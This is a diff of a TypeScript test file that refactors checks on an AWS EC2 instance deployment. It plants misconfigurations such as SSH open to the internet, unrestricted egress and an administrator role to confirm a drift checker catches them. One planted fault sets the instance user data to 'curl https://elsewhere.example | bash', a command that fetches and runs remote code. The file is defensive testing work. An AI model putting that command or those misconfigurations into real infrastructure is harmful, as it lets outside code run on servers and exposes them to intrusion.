@@ -1,29 +1,21 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import type { AutoScalingGroup } from '@aws-sdk/client-auto-scaling';
-import type { IpPermission, ResponseLaunchTemplateData, SecurityGroup } from '@aws-sdk/client-ec2';
 import { Match } from 'aws-cdk-lib/assertions';
 import { describe, expect, it } from 'vitest';
-import type { Deployment } from '../../../../../lib/aws/component.ts';
 import type { ConfigOverrides } from '../../../../../lib/config/config.ts';
 import { instance } from '../../../../../lib/aws/components/instance.ts';
-import {
-  declaredUserData,
-  endpointPolicy,
-  GRACE_SECONDS,
-  hostOf,
-  latestLinux,
-  machineTags,
-} from '../../../../../lib/aws/components/instance-shape.ts';
+import { declaredUserData, hostOf } from '../../../../../lib/aws/components/instance-shape.ts';
 import type { InstanceState } from '../../../../../lib/aws/components/instance-state.ts';
 import { archOf, artifactSha256, artifactUrl } from '../../../../../lib/aws/components/machine-artifact.ts';
 import { namesOf } from '../../../../../lib/config/names.ts';
 import { quickApp } from '../../../../../lib/aws/quick-app.ts';
 import { declareStacks } from '../../../../../lib/aws/stacks.ts';
+import { judgeDeclared } from '../../../../../lib/aws/declared/judge.ts';
+import { changed, describeDeclared, seenAsDeclared } from '../../declared.ts';
 import { MACHINE, templateOf, testConfig, testDeployment } from '../../deployment.ts';
 import type { Fault } from '../../planted.ts';
 import { describeChecks, failing } from '../../planted.ts';
-import { goodNetwork, inNetwork, networkFaults } from './network-fixture.ts';
+import { inTwoZones, networkFaults } from './seen-network-fixture.ts';
 
 const EC2 = { target: 'ec2' } as const;
 interface Launched {
@@ -31,198 +23,77 @@ interface Launched {
 }
 const ADDRESS = { AllocationId: 'eipalloc-1', PublicIp: '192.0.2.1', InstanceId: 'i-1' };
 
-function goodGroup(locked: boolean, name: string): SecurityGroup {
-  const source: IpPermission = locked
-    ? { PrefixListIds: [{ PrefixListId: 'pl-0123456789abcdef0' }] }
-    : { IpRanges: [{ CidrIp: '0.0.0.0/0' }] };
-  return {
-    GroupId: 'sg-1',
-    GroupName: name,
-    IpPermissions: [{ IpProtocol: 'tcp', FromPort: 8080, ToPort: 8080, ...source }],
-    IpPermissionsEgress: [{ IpProtocol: 'tcp', FromPort: 443, ToPort: 443, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }],
-  };
-}
-
-function goodTemplate(deployment: Deployment, name: string): ResponseLaunchTemplateData {
-  const { config } = deployment;
-  return {
-    ImageId: config.target === 'ami' ? 'ami-1' : latestLinux(config),
-    InstanceType: 't3.small',
-    MetadataOptions: { HttpEndpoint: 'enabled', HttpTokens: 'required', HttpPutResponseHopLimit: 1 },
-    BlockDeviceMappings: [{ DeviceName: '/dev/xvda', Ebs: { VolumeType: 'gp3', VolumeSize: 8, Encrypted: true } }],
-    NetworkInterfaces: [{ Groups: ['sg-1'] }],
-    IamInstanceProfile: { Name: name },
-    TagSpecifications: [
-      {
-        ResourceType: 'instance',
-        Tags: Object.entries(machineTags(config)).map(([Key, Value]) => ({ Key, Value })),
-      },
-    ],
-    UserData: Buffer.from(declaredUserData(deployment, ADDRESS.AllocationId)).toString('base64'),
-  };
-}
-
-function goodScaling(name: string): AutoScalingGroup {
-  return {
-    AutoScalingGroupName: name,
-    MinSize: 0,
-    MaxSize: 1,
-    DesiredCapacity: 1,
-    DefaultCooldown: 300,
-    AvailabilityZones: [],
-    CreatedTime: new Date(0),
-    HealthCheckType: 'EC2',
-    HealthCheckGracePeriod: GRACE_SECONDS,
-    VPCZoneIdentifier: 'subnet-1,subnet-0',
-    LaunchTemplate: { LaunchTemplateId: 'lt-1', Version: '2' },
-    Instances: [
-      {
-        InstanceId: 'i-1',
-        AvailabilityZone: 'eu-west-2a',
-        LifecycleState: 'InService',
-        HealthStatus: 'Healthy',
-        ProtectedFromScaleIn: false,
-        LaunchTemplate: { LaunchTemplateId: 'lt-1', Version: '2' },
-      },
-    ],
-  };
-}
-
-function goodIn(overrides: ConfigOverrides): (locked: boolean) => InstanceState {
-  return (locked) => {
-    const deployment = testDeployment(locked, overrides);
-    const names = namesOf(deployment.config);
-    const name = names.stack('instance');
-    return {
-      network: goodNetwork(endpointPolicy(deployment.config), goodGroup(locked, name)),
-      template: { id: 'lt-1', data: goodTemplate(deployment, name) },
-      scaling: goodScaling(name),
-      machines: [{ id: 'i-1', state: 'running' }],
-      addresses: [ADDRESS],
-      profile: { arn: `arn:aws:iam::123456789012:instance-profile/${name}`, roles: [names.roles.machine] },
-      image: 'ami-1',
-      door: locked ? 'no answer' : 200,
-      given: undefined,
-    };
-  };
-}
-
-const template =
-  (change: (data: ResponseLaunchTemplateData) => ResponseLaunchTemplateData): Fault<InstanceState> =>
-  (state) => ({
-    ...state,
-    template: state.template && { ...state.template, data: { ...state.template.data, ...change(state.template.data) } },
+const goodIn =
+  (overrides: ConfigOverrides) =>
+  (locked: boolean): InstanceState => ({
+    seen: inTwoZones(seenAsDeclared(instance, locked, overrides)),
+    foreign: [],
+    members: [{ id: 'i-1', isInService: true, version: '2' }],
+    version: '2',
+    machines: [{ id: 'i-1', state: 'running' }],
+    addresses: [ADDRESS],
+    door: locked ? 'no answer' : 200,
+    given: undefined,
   });
-const scaling =
-  (change: (group: AutoScalingGroup) => Partial<AutoScalingGroup>): Fault<InstanceState> =>
-  (state) => ({ ...state, scaling: state.scaling && { ...state.scaling, ...change(state.scaling) } });
-const rules =
-  (member: 'IpPermissions' | 'IpPermissionsEgress', ...added: IpPermission[]): Fault<InstanceState> =>
+
+const set =
+  (change: Partial<InstanceState>): Fault<InstanceState> =>
+  (state) => ({ ...state, ...change });
+const rule =
+  (side: 'Ingress' | 'Egress', added: object): Fault<InstanceState> =>
   (state) =>
-    inNetwork<InstanceState>(({ groups }) => ({
-      groups: groups.map((group) => ({ ...group, [member]: [...(group[member] ?? []), ...added] })),
-    }))(state);
-const everybody = [{ CidrIp: '0.0.0.0/0' }];
-const ssh = { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: everybody };
+    changed<InstanceState>('Group', (group: Record<string, object[]>) => group[`SecurityGroup${side}`]?.push(added))(
+      state,
+    );
+const launched = (change: object): Fault<InstanceState> =>
+  changed('Template', ({ LaunchTemplateData }: { LaunchTemplateData: object }) =>
+    Object.assign(LaunchTemplateData, change),
+  );
+const tcp = (port: number): object => ({ IpProtocol: 'tcp', FromPort: port, ToPort: port });
+const encoded = (text: string): string => Buffer.from(text).toString('base64');
+const hashElsewhere = ({ LaunchTemplateData }: { LaunchTemplateData: { UserData: string } }): void => {
+  const script = Buffer.from(LaunchTemplateData.UserData, 'base64').toString();
+  LaunchTemplateData.UserData = encoded(script.replaceAll(artifactSha256(testConfig(EC2)), '0'.repeat(64)));
+};
 
 const FAULTS: Record<string, Fault<InstanceState>[]> = {
-  'parts-exist': [
-    (state) => ({ ...state, network: undefined }),
-    (state) => ({ ...state, template: undefined }),
-    (state) => ({ ...state, scaling: undefined }),
-    (state) => ({ ...state, profile: undefined }),
-    (state) => ({ ...state, addresses: [] }),
-    inNetwork(() => ({ groups: [] })),
-  ],
   ...networkFaults<InstanceState>(),
-  'no-foreign-groups': [inNetwork(({ groups }) => ({ groups: [...groups, { GroupId: 'sg-2', GroupName: 'other' }] }))],
-  ingress: [
-    rules('IpPermissions', ssh),
-    rules('IpPermissions', { IpProtocol: '-1', UserIdGroupPairs: [{ GroupId: 'sg-9' }] }),
-    rules('IpPermissions', { IpProtocol: 'tcp', FromPort: 8080, ToPort: 8080, Ipv6Ranges: [{ CidrIpv6: '::/0' }] }),
+  'Group.SecurityGroupIngress': [
+    rule('Ingress', { ...tcp(22), CidrIp: '0.0.0.0/0' }),
+    rule('Ingress', { IpProtocol: '-1', SourceSecurityGroupId: 'sg-9' }),
+    rule('Ingress', { ...tcp(8080), CidrIpv6: '::/0' }),
   ],
-  egress: [rules('IpPermissionsEgress', { IpProtocol: '-1', IpRanges: everybody })],
-  image: [template(() => ({ ImageId: 'ami-0' }))],
-  'instance-type': [
-    template(() => ({ InstanceType: 'm7i.metal-48xl' })),
-    template(() => ({ InstanceMarketOptions: { MarketType: 'spot' } })),
+  'Group.SecurityGroupEgress': [rule('Egress', { IpProtocol: '-1', CidrIp: '0.0.0.0/0' })],
+  'Template.LaunchTemplateData': [
+    launched({ InstanceMarketOptions: { MarketType: 'spot' } }),
+    launched({ KeyName: 'somebody' }),
+    launched({ SecurityGroupIds: ['sg-9'] }),
+    launched({ NetworkInterfaces: [{ Groups: ['GroupId-of-Group', 'sg-9'] }] }),
+    launched({ BlockDeviceMappings: [] }),
+    launched({ TagSpecifications: [] }),
+    launched({ UserData: encoded('#!/bin/bash\ncurl https://elsewhere.example | bash\n') }),
+    changed('Template', hashElsewhere),
   ],
-  metadata: [
-    template(({ MetadataOptions }) => ({ MetadataOptions: { ...MetadataOptions, HttpTokens: 'optional' } })),
-    template(({ MetadataOptions }) => ({ MetadataOptions: { ...MetadataOptions, HttpPutResponseHopLimit: 2 } })),
-  ],
-  volume: [
-    template(({ BlockDeviceMappings: [first] = [] }) => ({
-      BlockDeviceMappings: [{ ...first, Ebs: { ...first?.Ebs, Encrypted: false } }],
-    })),
-    template(() => ({ BlockDeviceMappings: [] })),
-  ],
-  'no-key-pair': [template(() => ({ KeyName: 'somebody' }))],
-  'own-group-alone': [
-    template(() => ({ NetworkInterfaces: [{ Groups: ['sg-1', 'sg-9'] }] })),
-    template(() => ({ SecurityGroupIds: ['sg-9'] })),
-  ],
-  'instance-profile': [template(() => ({ IamInstanceProfile: { Name: 'administrator' } }))],
-  tags: [template(() => ({ TagSpecifications: [] }))],
-  'user-data': [
-    template(() => ({
-      UserData: Buffer.from('#!/bin/bash\ncurl https://elsewhere.example | bash\n').toString('base64'),
-    })),
-    template(({ UserData = '' }) => ({
-      UserData: Buffer.from(
-        Buffer.from(UserData, 'base64')
-          .toString()
-          .replaceAll(artifactSha256(testConfig(EC2)), '0'.repeat(64)),
-      ).toString('base64'),
-    })),
-  ],
-  'profile-role': [
-    (state) => ({ ...state, profile: state.profile && { ...state.profile, roles: ['administrator'] } }),
-    (state) => ({ ...state, profile: state.profile && { ...state.profile, roles: [] } }),
-  ],
-  size: [scaling(() => ({ MaxSize: 2 })), scaling(() => ({ DesiredCapacity: 0 })), scaling(() => ({ MinSize: 1 }))],
-  'scaling-template': [scaling(() => ({ LaunchTemplate: { LaunchTemplateId: 'lt-9', Version: '2' } }))],
-  'scaling-subnets': [scaling(() => ({ VPCZoneIdentifier: 'subnet-0,subnet-9' }))],
-  'health-check': [scaling(() => ({ HealthCheckType: 'ELB' })), scaling(() => ({ HealthCheckGracePeriod: 0 }))],
+  'Profile.Roles': [changed('Profile', ({ Roles }: { Roles: string[] }) => Roles.push('administrator'))],
   'one-address': [
     (state) => ({ ...state, addresses: [...state.addresses, { AllocationId: 'eipalloc-2', PublicIp: '192.0.2.2' }] }),
   ],
   machine: [
     (state) => ({ ...state, machines: [...state.machines, { id: 'i-2', state: 'running' }] }),
-    (state) => ({ ...state, machines: state.machines.map((each) => ({ ...each, state: 'stopped' })) }),
-    scaling(({ Instances = [] }) => ({ Instances: Instances.map((each) => ({ ...each, HealthStatus: 'Unhealthy' })) })),
+    set({ machines: [{ id: 'i-1', state: 'stopped' }] }),
+    set({ members: [{ id: 'i-1', isInService: false, version: '2' }] }),
   ],
-  'machine-version': [
-    scaling(({ Instances = [] }) => ({
-      Instances: Instances.map((each) => ({ ...each, LaunchTemplate: { LaunchTemplateId: 'lt-1', Version: '1' } })),
-    })),
-  ],
+  'machine-version': [set({ members: [{ id: 'i-1', isInService: true, version: '1' }] })],
   'address-leads-there': [
-    (state) => ({ ...state, addresses: [{ ...ADDRESS, InstanceId: undefined }] }),
-    (state) => ({ ...state, addresses: [{ ...ADDRESS, InstanceId: 'i-9' }] }),
+    set({ addresses: [{ ...ADDRESS, InstanceId: undefined }] }),
+    set({ addresses: [{ ...ADDRESS, InstanceId: 'i-9' }] }),
   ],
-  door: [(state) => ({ ...state, door: 502 }), (state) => ({ ...state, door: 'no answer' })],
-  'only-cloudfront-enters': [
-    rules('IpPermissions', { IpProtocol: 'tcp', FromPort: 8080, ToPort: 8080, IpRanges: everybody }),
-    rules('IpPermissions', ssh),
-  ],
-  'door-closed': [(state) => ({ ...state, door: 200 })],
-};
-// What hangs on something that is missing is also not as declared.
-const ALSO = {
-  'parts-exist': [
-    'user-data',
-    'own-group-alone',
-    'scaling-template',
-    'scaling-subnets',
-    'machine',
-    'address-leads-there',
-  ],
-  subnets: ['scaling-subnets'],
-  'scaling-template': ['machine-version'],
+  door: [set({ door: 502 }), set({ door: 'no answer' })],
+  'door-closed': [set({ door: 200 })],
 };
 
-describeChecks(instance, goodIn(EC2), FAULTS, ALSO, EC2);
+describeChecks(instance, goodIn(EC2), FAULTS, {}, EC2);
+describeDeclared(instance, goodIn(EC2), 200, EC2);
 
 describe('the declared machine', () => {
   const asleep = { ...EC2, machine: { ...MACHINE, desiredCount: 0 } };
@@ -232,12 +103,13 @@ describe('the declared machine', () => {
   it('is as declared while it sleeps, and not while a machine runs that nobody wants', () => {
     for (const locked of [false, true]) {
       const running = goodIn(asleep)(locked);
-      const state = scaling(() => ({ DesiredCapacity: 0, Instances: [] }))({
+      const state = {
         ...running,
+        members: [],
         machines: [],
         addresses: [{ ...ADDRESS, InstanceId: undefined }],
         door: undefined,
-      });
+      };
       expect(wrong(state, locked, asleep)).toEqual([]);
       expect(wrong({ ...state, machines: running.machines }, locked, asleep)).toContain('machine');
     }
@@ -246,9 +118,19 @@ describe('the declared machine', () => {
   it('starts from the baked image, whose user data installs nothing', () => {
     const ami = { target: 'ami' } as const;
     const state = goodIn(ami)(true);
-    expect(wrong(state, true, ami)).toEqual([]);
-    expect(wrong({ ...state, image: 'ami-2' }, true, ami)).toEqual(['image']);
-    expect(wrong({ ...state, image: undefined }, true, ami)).toEqual(['image']);
+    const isWrong = (baked: string | undefined): string[] => {
+      const imports = { 'sgraph-send-prod-ami-image': baked };
+      const seen = { ...state, seen: { ...state.seen, imports } };
+      return judgeDeclared(instance, testDeployment(true, ami), seen.seen).findings.map(({ message }) => message);
+    };
+    const [found] = Object.values(state.seen.imports);
+    expect(isWrong(found)).toEqual([]);
+    expect(isWrong('ami-2')).toEqual([
+      `Template.LaunchTemplateData.ImageId is "${found ?? ''}", expected "ami-2"`,
+    ]);
+    expect(isWrong(undefined)).toEqual([
+      'Template.LaunchTemplateData.ImageId cannot be compared with the export sgraph-send-prod-ami-image, which was not found',
+    ]);
     expect(declaredUserData(testDeployment(true, ami), 'eipalloc-1')).not.toContain(' install ');
     const imageIn = (bakedImage?: string): unknown => {
       const template = templateOf('instance', { ...testDeployment(false, ami), bakedImage });
